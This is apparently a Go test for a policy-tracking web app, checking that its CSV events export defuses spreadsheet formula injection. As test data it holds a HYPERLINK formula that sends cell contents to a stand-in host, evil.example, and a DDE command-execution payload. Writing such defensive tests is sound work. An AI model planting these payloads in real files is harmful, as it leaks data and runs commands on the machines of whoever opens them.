package web

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/policywatch/policywatch/event"
	"github.com/policywatch/policywatch/ingest"
	"github.com/policywatch/policywatch/store"
)

// /events.csv does not hand a spreadsheet a formula from a feed's title.
func TestEventsCSVNeutralisesFormulas(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policywatch.db")
	db, err := store.Open(path, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	const title = `=HYPERLINK("http://evil.example/?x="&A1,"x")`
	a := ingest.Article{
		ID: ingest.ArticleID("https://news.test/evil"), Key: "https://news.test/evil", URL: "https://news.test/evil",
		Feed: "Wire", Title: title, Published: time.Date(2018, 4, 17, 9, 0, 0, 0, time.UTC),
	}
	a.Fetched = a.Published.Add(time.Hour)
	e := event.Event{
		ID: event.ID(a.ID, "RU", "telegram", event.Block), Country: "RU", Service: "telegram", Action: event.Block,
		Date: "2018-04-16", Reason: "+cmd|' /C calc'!A0", Evidence: []string{"Russia blocked Telegram."}, Confidence: 0.9,
		ArticleID: a.ID, SourceURL: a.URL, SourceTitle: a.Title, Published: "2018-04-17", Feed: a.Feed,
	}
	if _, err := db.Save(store.Batch{Articles: []store.ArticleEvents{{Article: a, Events: []event.Event{e}}}}); err != nil {
		t.Fatal(err)
	}
	db.Close()

	r := get(t, start(t, path), "/events.csv")
	if r.status != http.StatusOK {
		t.Fatalf("status %d: %s", r.status, r.body)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v:\n%s", len(rows), err, r.body)
	}
	col := func(name string) string { return rows[1][slices.Index(event.CSVHeader(), name)] }
	if got := col("source_title"); got != "'"+title {
		t.Errorf("source_title %q, want it behind a quote", got)
	}
	if got := col("reason"); got != "'+cmd|' /C calc'!A0" {
		t.Errorf("reason %q, want it behind a quote", got)
	}
	if got := col("confidence"); got != "0.90" {
		t.Errorf("confidence %q", got)
	}
}
